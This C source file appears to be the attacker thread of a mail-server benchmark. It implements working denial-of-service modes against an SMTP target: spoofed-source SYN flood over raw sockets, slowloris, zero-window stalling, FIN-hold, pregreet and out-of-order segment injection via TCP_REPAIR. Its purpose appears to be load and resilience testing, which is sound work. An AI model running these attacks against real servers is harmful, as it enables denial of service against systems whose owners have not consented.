/*
 * kattack.c - mxbench's attacker thread on kernel sockets: --attack-conns
 * connections per mode (attack.h), next to the legitimate load, in one epoll
 * loop. A slot whose connection ended is opened again while the run lasts,
 * paced by --attack-rate and bounded by --attack-total, so an attacker keeps
 * its pressure up the way a real one does.
 *
 * syn-flood needs no connection: its SYNs go out of one raw socket from
 * the scan; ooo injects its segments into kernel connections through the
 * same raw socket.
 *
 * The thread ends when the main thread sets run->attack_stop (the
 * legitimate load is over), at the hard deadline or on abort; whatever it
 * still holds then is counted open_at_end (with how long it was held) and
 * closed. Traffic goes only to cfg->target. The stats are written by this
 * thread alone and read by the main thread after pthread_join().
 */
#include "bench/mxbench.h"

#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/epoll.h>
#include <sys/socket.h>
#include <unistd.h>

#define KA_SCAN_NS   (20 * 1000 * 1000ULL)
#define KA_MAX_EV    256
#define KA_OUT_MAX   128
#define KA_DRAIN_MAX 16	  /* reads of a zero-window socket at the end */
#define KA_SYN_BATCH 4096 /* most SYNs per scan (20 ms) */

enum ac_st {
	AC_FREE = 0,
	AC_CONNECTING,
	AC_OPEN,
	AC_HELD, /* fin-hold: the server's FIN read; only RST/error watched */
};

struct ac {
	int fd;
	enum ac_st st;
	enum bench_atk_mode mode;
	bool reading;	 /* EPOLLIN wanted */
	bool started;	 /* the attack proper began (slowloris, zero-window) */
	bool blocked;	 /* zero-window: a send found our send buffer full */
	uint32_t events; /* as registered with epoll */
	struct bench_atk_proto p;
	struct bench_reply_parser rp;
	uint64_t t_hold;   /* start of the hold time measured */
	uint64_t deadline; /* 0: none */
	uint64_t t_slow0;  /* slowloris: byte clock */
	uint64_t sent;	   /* slowloris: bytes; zero-window: command stream bytes */
	char out[KA_OUT_MAX];
	size_t out_len, out_off;
};

struct ka {
	struct bench_attacker *a;
	const struct bench_cfg *cfg;
	const struct bench_atk_cfg *ac;
	int ep;
	struct ac *c;
	unsigned n;
	unsigned src_next;
	uint64_t timeout_ns;
	struct bench_atk_pace pace[BENCH_ATK_MODES];
	int raw;	  /* syn-flood: raw IPv4 socket, -1: none */
	uint64_t syn_seq; /* SYNs built */
	char wbuf[8192];
	char rbuf[65536];
};

static struct bench_atk_stats *st_of(struct ka *k, struct ac *c)
{
	return &k->a->st[c->mode];
}

static void ka_err(struct ka *k, struct ac *c, const char *what, int err)
{
	struct bench_atk_stats *st = st_of(k, c);

	snprintf(st->last_err, sizeof(st->last_err), "%s%s%s", what, err ? ": " : "",
		 err ? strerror(err) : "");
}

static void ac_close(struct ac *c)
{
	if (c->fd >= 0)
		close(c->fd);
	c->fd = -1;
	c->st = AC_FREE;
}

/* The server ended the connection: count it and how long it held it. */
static void server_closed(struct ka *k, struct ac *c, uint64_t now, bool reset)
{
	struct bench_atk_stats *st = st_of(k, c);

	st->closed_by_server++;
	if (reset)
		st->reset_by_server++;
	mx_hist_record(&st->h_held, now - c->t_hold);
	ac_close(c);
}

static void closed_by_us(struct ka *k, struct ac *c, const char *why)
{
	st_of(k, c)->closed_by_us++;
	if (why)
		ka_err(k, c, why, 0);
	ac_close(c);
}

static void set_events(struct ka *k, struct ac *c)
{
	uint32_t ev = 0;
	struct epoll_event e = {.data.ptr = c};

	if (c->reading)
		ev |= EPOLLIN;
	if (c->out_len > c->out_off || (c->mode == BENCH_ATK_ZERO_WINDOW && c->started &&
					c->sent < (uint64_t)k->ac->zw_cmds * 6))
		ev |= EPOLLOUT;
	if (c->mode == BENCH_ATK_ZERO_WINDOW && c->started)
		ev |= EPOLLRDHUP;
	if (ev == c->events)
		return;
	e.events = ev;
	c->events = ev;
	epoll_ctl(k->ep, EPOLL_CTL_MOD, c->fd, &e);
}

static void ac_open(struct ka *k, struct ac *c, uint64_t now)
{
	const struct bench_cfg *cfg = k->cfg;
	struct bench_atk_stats *st = st_of(k, c);
	struct epoll_event e = {.events = EPOLLOUT, .data.ptr = c};
	int one = 1, fd;

	st->attempts++;
	fd = socket(cfg->target.ss_family, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
	if (fd < 0)
		goto fail;
	setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &one, sizeof(one));
	if (c->mode == BENCH_ATK_ZERO_WINDOW) {
		int rcv = (int)k->ac->zw_rcvbuf;

		/* Before connect(): the window scale is chosen from it. */
		setsockopt(fd, SOL_SOCKET, SO_RCVBUF, &rcv, sizeof(rcv));
	}
	if (k->ac->nsrc) {
		unsigned i = k->src_next++ % k->ac->nsrc;

		setsockopt(fd, IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, &one, sizeof(one));
		if (bind(fd, (const struct sockaddr *)&k->ac->src[i], k->ac->src_len[i]) < 0)
			goto fail;
	}
	if (connect(fd, (const struct sockaddr *)&cfg->target, cfg->target_len) < 0 &&
	    errno != EINPROGRESS)
		goto fail;
	if (epoll_ctl(k->ep, EPOLL_CTL_ADD, fd, &e) < 0)
		goto fail;
	c->fd = fd;
	c->st = AC_CONNECTING;
	c->events = EPOLLOUT;
	c->reading = c->started = c->blocked = false;
	c->out_len = c->out_off = 0;
	c->sent = 0;
	c->deadline = now + k->timeout_ns;
	return;
fail:
	st->connect_failed++;
	ka_err(k, c, "connect", errno);
	if (fd >= 0)
		close(fd);
	c->st = AC_FREE;
}

static void queue_cmd(struct ac *c, const char *s)
{
	size_t n = strlen(s);

	if (c->out_off == c->out_len)
		c->out_off = c->out_len = 0;
	if (n <= sizeof(c->out) - c->out_len) {
		memcpy(c->out + c->out_len, s, n);
		c->out_len += n;
	}
}

/* Write the queued command(s). -1 when the connection is gone (closed). */
static int flush_out(struct ka *k, struct ac *c, uint64_t now)
{
	while (c->out_off < c->out_len) {
		ssize_t w = write(c->fd, c->out + c->out_off, c->out_len - c->out_off);

		if (w < 0) {
			if (errno == EINTR)
				continue;
			if (errno == EAGAIN)
				break;
			ka_err(k, c, "write", errno);
			server_closed(k, c, now, true);
			return -1;
		}
		st_of(k, c)->bytes_sent += (uint64_t)w;
		c->out_off += (size_t)w;
	}
	return 0;
}

/* Zero-window: pipeline the commands while our send buffer takes them. */
static int zw_write(struct ka *k, struct ac *c, uint64_t now)
{
	struct bench_atk_stats *st = st_of(k, c);
	uint64_t total = (uint64_t)k->ac->zw_cmds * 6;

	while (c->sent < total) {
		uint64_t cmd = c->sent / 6;
		size_t skip = (size_t)(c->sent % 6);
		size_t len = bench_atk_zw_fill(k->wbuf, sizeof(k->wbuf), &cmd,
					       k->ac->zw_cmds - c->sent / 6);
		ssize_t w = write(c->fd, k->wbuf + skip, len - skip);

		if (w < 0) {
			if (errno == EINTR)
				continue;
			if (errno == EAGAIN) {
				if (!c->blocked)
					st->send_blocked++;
				c->blocked = true;
				return 0;
			}
			ka_err(k, c, "write", errno);
			server_closed(k, c, now, true);
			return -1;
		}
		st->cmds_sent += (c->sent + (uint64_t)w) / 6 - c->sent / 6;
		st->bytes_sent += (uint64_t)w;
		c->sent += (uint64_t)w;
	}
	return 0;
}

/*
 * ooo: read our next sequence number and the server's from the kernel
 * (TCP_REPAIR, briefly), then inject one-octet segments at every other
 * octet past the next expected one: the hole is never filled, so the server
 * holds them all. The kernel socket stays as it was and keeps reading.
 */
static int ooo_inject(struct ka *k, struct ac *c)
{
	struct bench_atk_stats *st = st_of(k, c);
	struct sockaddr_in l, r;
	socklen_t ll = sizeof(l), rl = sizeof(r), sl = sizeof(uint32_t);
	uint32_t snd = 0, rcv = 0;
	int on = 1, off = TCP_REPAIR_OFF, q;
	uint8_t pkt[BENCH_ATK_SEG_LEN];

	if (k->raw < 0) {
		ka_err(k, c, "ooo: no raw socket (needs CAP_NET_RAW)", 0);
		return -1;
	}
	if (getsockname(c->fd, (struct sockaddr *)&l, &ll) < 0 ||
	    getpeername(c->fd, (struct sockaddr *)&r, &rl) < 0 || l.sin_family != AF_INET) {
		ka_err(k, c, "ooo: addresses", errno);
		return -1;
	}
	if (setsockopt(c->fd, IPPROTO_TCP, TCP_REPAIR, &on, sizeof(on)) < 0) {
		ka_err(k, c, "ooo: TCP_REPAIR (needs CAP_NET_ADMIN)", errno);
		return -1;
	}
	q = TCP_SEND_QUEUE;
	setsockopt(c->fd, IPPROTO_TCP, TCP_REPAIR_QUEUE, &q, sizeof(q));
	getsockopt(c->fd, IPPROTO_TCP, TCP_QUEUE_SEQ, &snd, &sl);
	q = TCP_RECV_QUEUE;
	setsockopt(c->fd, IPPROTO_TCP, TCP_REPAIR_QUEUE, &q, sizeof(q));
	sl = sizeof(uint32_t);
	getsockopt(c->fd, IPPROTO_TCP, TCP_QUEUE_SEQ, &rcv, &sl);
	setsockopt(c->fd, IPPROTO_TCP, TCP_REPAIR, &off, sizeof(off));
	for (unsigned i = 0; i < k->ac->ooo_segs; i++) {
		size_t len = bench_atk_seg_build(pkt, l.sin_addr.s_addr, r.sin_addr.s_addr,
						 l.sin_port, r.sin_port, snd + 1 + 2 * i, rcv,
						 bench_atk_slow_byte(i), (uint16_t)i);

		if (sendto(k->raw, pkt, len, 0, (const struct sockaddr *)&r, sizeof(r)) < 0) {
			ka_err(k, c, "ooo: raw send", errno);
			break;
		}
		st->cmds_sent++;
		st->bytes_sent++;
	}
	return 0;
}

static void do_act(struct ka *k, struct ac *c, enum bench_atk_act act, uint64_t now)
{
	switch (act) {
	case BENCH_ATK_ACT_NONE:
		break;
	case BENCH_ATK_ACT_EHLO:
		queue_cmd(c, "EHLO fin-hold.attack.example.test\r\n");
		c->deadline = now + k->timeout_ns;
		break;
	case BENCH_ATK_ACT_QUIT:
		queue_cmd(c, "QUIT\r\n");
		c->deadline = now + k->timeout_ns;
		break;
	case BENCH_ATK_ACT_START:
		c->started = true;
		c->deadline = 0;
		if (c->mode == BENCH_ATK_SLOWLORIS) {
			c->t_slow0 = now;
		} else if (c->mode == BENCH_ATK_OOO) {
			if (ooo_inject(k, c) < 0) {
				closed_by_us(k, c, NULL);
				return;
			}
		} else if (c->mode == BENCH_ATK_ZERO_WINDOW) {
			c->reading = false; /* never again: the window closes */
			if (zw_write(k, c, now) < 0)
				return;
		}
		break;
	case BENCH_ATK_ACT_HOLD:
		c->deadline = 0;
		if (c->mode == BENCH_ATK_FIN_HOLD)
			c->t_hold = now; /* held from the 221 on */
		break;
	case BENCH_ATK_ACT_CLOSE:
		closed_by_us(k, c, NULL);
		return;
	case BENCH_ATK_ACT_WAIT_CLOSE:
		c->deadline = now + k->timeout_ns;
		break;
	}
	if (flush_out(k, c, now) == 0)
		set_events(k, c);
}

static void established(struct ka *k, struct ac *c, uint64_t now)
{
	st_of(k, c)->opened++;
	c->st = AC_OPEN;
	c->t_hold = now;
	c->reading = true;
	c->deadline = now + k->timeout_ns;
	bench_atk_proto_init(&c->p, c->mode);
	bench_reply_init(&c->rp);
	if (c->mode == BENCH_ATK_PREGREET)
		queue_cmd(c, "EHLO pregreet.attack.example.test\r\n");
	if (flush_out(k, c, now) == 0)
		set_events(k, c);
}

/* Parse @n bytes of replies; false when the connection was closed. */
static bool feed(struct ka *k, struct ac *c, size_t n, uint64_t now, bool act)
{
	size_t off = 0;

	while (off < n) {
		struct bench_reply r;
		size_t used;
		enum bench_reply_rc rc =
			bench_reply_feed(&c->rp, k->rbuf + off, n - off, &used, &r);
		enum bench_atk_act a;

		off += used;
		if (rc == BENCH_REPLY_AGAIN)
			break;
		if (rc == BENCH_REPLY_ERROR) {
			closed_by_us(k, c, c->rp.err);
			return false;
		}
		a = bench_atk_on_reply(&c->p, r.code, st_of(k, c));
		if (!act)
			continue;
		do_act(k, c, a, now);
		if (c->st != AC_OPEN)
			return false;
		if (!c->reading)
			break; /* zero-window: the rest stays unread */
	}
	return true;
}

static void readable(struct ka *k, struct ac *c, uint64_t now)
{
	for (int i = 0; i < 4 && c->reading; i++) {
		ssize_t n = read(c->fd, k->rbuf, sizeof(k->rbuf));

		if (n < 0) {
			if (errno == EINTR)
				continue;
			if (errno == EAGAIN)
				return;
			ka_err(k, c, "read", errno);
			server_closed(k, c, now, true);
			return;
		}
		if (n == 0) {
			if (c->mode == BENCH_ATK_FIN_HOLD && c->p.state == BENCH_ATK_P_RUN) {
				/* Our side stays open: no close(), no shutdown(),
				 * so the kernel never sends our FIN. */
				st_of(k, c)->fin_seen++;
				c->st = AC_HELD;
				c->reading = false;
				set_events(k, c);
				return;
			}
			server_closed(k, c, now, false);
			return;
		}
		if (!feed(k, c, (size_t)n, now, true))
			return;
	}
}

static void on_event(struct ka *k, struct ac *c, uint32_t ev, uint64_t now)
{
	if (c->st == AC_CONNECTING) {
		int err = 0;
		socklen_t len = sizeof(err);

		getsockopt(c->fd, SOL_SOCKET, SO_ERROR, &err, &len);
		if (err || (ev & (EPOLLERR | EPOLLHUP))) {
			st_of(k, c)->connect_failed++;
			ka_err(k, c, "connect", err ? err : ECONNABORTED);
			ac_close(c);
			return;
		}
		established(k, c, now);
		return;
	}
	if (c->st == AC_HELD) {
		if (ev & (EPOLLERR | EPOLLHUP))
			server_closed(k, c, now, true);
		return;
	}
	if (c->st != AC_OPEN)
		return;
	if (c->reading && (ev & (EPOLLIN | EPOLLERR | EPOLLHUP))) {
		readable(k, c, now);
		if (c->st != AC_OPEN)
			return;
	} else if (!c->reading && (ev & (EPOLLERR | EPOLLHUP | EPOLLRDHUP))) {
		server_closed(k, c, now, !!(ev & (EPOLLERR | EPOLLHUP)));
		return;
	}
	if (ev & EPOLLOUT) {
		if (flush_out(k, c, now) < 0)
			return;
		if (c->mode == BENCH_ATK_ZERO_WINDOW && c->started && zw_write(k, c, now) < 0)
			return;
		set_events(k, c);
	}
}

static void slow_tick(struct ka *k, struct ac *c, uint64_t now)
{
	uint64_t ival = (uint64_t)(k->ac->interval * 1e9);
	char b;
	ssize_t w;

	if (now < bench_atk_slow_due(c->t_slow0, ival, c->sent))
		return;
	b = bench_atk_slow_byte(c->sent);
	w = write(c->fd, &b, 1);

	if (w == 1) {
		c->sent++;
		st_of(k, c)->bytes_sent++;
	} else if (w < 0 && errno != EAGAIN && errno != EINTR) {
		ka_err(k, c, "write", errno);
		server_closed(k, c, now, true);
	}
}

/* syn-flood: the SYNs due by @now, KA_SYN_BATCH at most. Each one has its
 * own source port and sequence number; the spoofed sources take turns. */
static void syn_tick(struct ka *k, uint64_t now)
{
	struct bench_atk_stats *st = &k->a->st[BENCH_ATK_SYN_FLOOD];
	const struct sockaddr_in *dst = (const struct sockaddr_in *)&k->cfg->target;
	uint8_t pkt[BENCH_ATK_SYN_LEN];

	for (unsigned i = 0;
	     i < KA_SYN_BATCH && bench_atk_pace_take(&k->pace[BENCH_ATK_SYN_FLOOD], now); i++) {
		uint64_t n = k->syn_seq++;
		uint16_t sport = htons((uint16_t)(1024 + (n * 7919) % 64511));
		size_t len = bench_atk_syn_build(pkt, k->ac->syn_src[n % k->ac->nsyn_src],
						 dst->sin_addr.s_addr, sport, dst->sin_port,
						 (uint32_t)(n * 2654435761u), (uint16_t)n);

		st->attempts++;
		if (sendto(k->raw, pkt, len, 0, (const struct sockaddr *)dst, sizeof(*dst)) < 0) {
			st->connect_failed++;
			snprintf(st->last_err, sizeof(st->last_err), "raw send: %s",
				 strerror(errno));
			if (errno == EAGAIN || errno == ENOBUFS)
				break;
			continue;
		}
		st->bytes_sent += len;
	}
}

static void scan(struct ka *k, uint64_t now)
{
	if (k->raw >= 0 && (k->ac->modes & (1u << BENCH_ATK_SYN_FLOOD)))
		syn_tick(k, now);
	for (unsigned i = 0; i < k->n; i++) {
		struct ac *c = &k->c[i];

		if (c->st == AC_FREE) {
			if (bench_atk_pace_take(&k->pace[c->mode], now))
				ac_open(k, c, now);
			continue;
		}
		if (c->deadline && now >= c->deadline) {
			if (c->st == AC_CONNECTING) {
				st_of(k, c)->connect_failed++;
				ka_err(k, c, "connect timeout", 0);
				ac_close(c);
			} else {
				closed_by_us(k, c, "reply timeout");
			}
			continue;
		}
		if (c->st == AC_OPEN && c->mode == BENCH_ATK_SLOWLORIS && c->started)
			slow_tick(k, c, now);
	}
}

/* End of run: count what is still held, read what a zero-window socket
 * holds (the replies it never read), close everything. */
static void finish(struct ka *k, uint64_t now)
{
	for (unsigned i = 0; i < k->n; i++) {
		struct ac *c = &k->c[i];
		struct bench_atk_stats *st = st_of(k, c);

		if (c->st == AC_OPEN || c->st == AC_HELD) {
			st->open_at_end++;
			mx_hist_record(&st->h_held_end, now - c->t_hold);
			for (int r = 0; r < KA_DRAIN_MAX && c->st == AC_OPEN &&
					c->mode == BENCH_ATK_ZERO_WINDOW;
			     r++) {
				ssize_t n = read(c->fd, k->rbuf, sizeof(k->rbuf));

				if (n <= 0 || !feed(k, c, (size_t)n, now, false))
					break;
			}
		}
		if (c->fd >= 0)
			ac_close(c);
	}
}

void *bench_kattack_main(void *arg)
{
	struct bench_attacker *a = arg;
	struct ka *k = calloc(1, sizeof(*k));
	struct epoll_event evs[KA_MAX_EV];
	unsigned nmodes = 0, slot = 0;
	uint64_t now, last_scan = 0;

	if (!k) {
		a->rc = -ENOMEM;
		return NULL;
	}
	k->a = a;
	k->cfg = a->cfg;
	k->ac = &a->cfg->atk;
	k->timeout_ns = (uint64_t)(a->cfg->timeout * 1e9);
	k->raw = -1;
	for (unsigned m = 0; m < BENCH_ATK_MODES; m++)
		nmodes += m != BENCH_ATK_SYN_FLOOD && (k->ac->modes & (1u << m));
	k->n = nmodes * k->ac->conns;
	k->ep = epoll_create1(EPOLL_CLOEXEC);
	k->c = calloc(k->n ? k->n : 1, sizeof(*k->c));
	if (k->ep < 0 || !k->c) {
		a->rc = -ENOMEM;
		goto out;
	}
	now = bench_now_ns();
	for (unsigned m = 0; m < BENCH_ATK_MODES; m++) {
		if (!(k->ac->modes & (1u << m)))
			continue;
		bench_atk_pace_init(&k->pace[m], k->ac->rate, k->ac->total, now);
		if ((m == BENCH_ATK_SYN_FLOOD || m == BENCH_ATK_OOO) && k->raw < 0) {
			/* IPPROTO_RAW: we write the IP header (IP_HDRINCL). */
			k->raw = socket(AF_INET, SOCK_RAW | SOCK_NONBLOCK | SOCK_CLOEXEC,
					IPPROTO_RAW);
			if (k->raw < 0)
				snprintf(a->st[m].last_err, sizeof(a->st[m].last_err),
					 "raw socket (needs CAP_NET_RAW): %s", strerror(errno));
		}
		if (m == BENCH_ATK_SYN_FLOOD)
			continue;
		for (unsigned j = 0; j < k->ac->conns; j++, slot++) {
			k->c[slot].fd = -1;
			k->c[slot].mode = (enum bench_atk_mode)m;
		}
	}
	for (;;) {
		int n;

		now = bench_now_ns();
		if (__atomic_load_n(&a->run->attack_stop, __ATOMIC_ACQUIRE) ||
		    __atomic_load_n(&a->run->stop, __ATOMIC_RELAXED) >= 2 ||
		    now >= a->run->hard_end_ns)
			break;
		if (now - last_scan >= KA_SCAN_NS) {
			scan(k, now);
			last_scan = now;
		}
		n = epoll_wait(k->ep, evs, KA_MAX_EV, (int)(KA_SCAN_NS / 1000000));
		if (n < 0 && errno != EINTR) {
			a->rc = -errno;
			break;
		}
		now = bench_now_ns();
		for (int i = 0; i < n; i++)
			on_event(k, evs[i].data.ptr, evs[i].events, now);
	}
	finish(k, bench_now_ns());
out:
	if (k->raw >= 0)
		close(k->raw);
	if (k->ep >= 0)
		close(k->ep);
	free(k->c);
	free(k);
	return NULL;
}
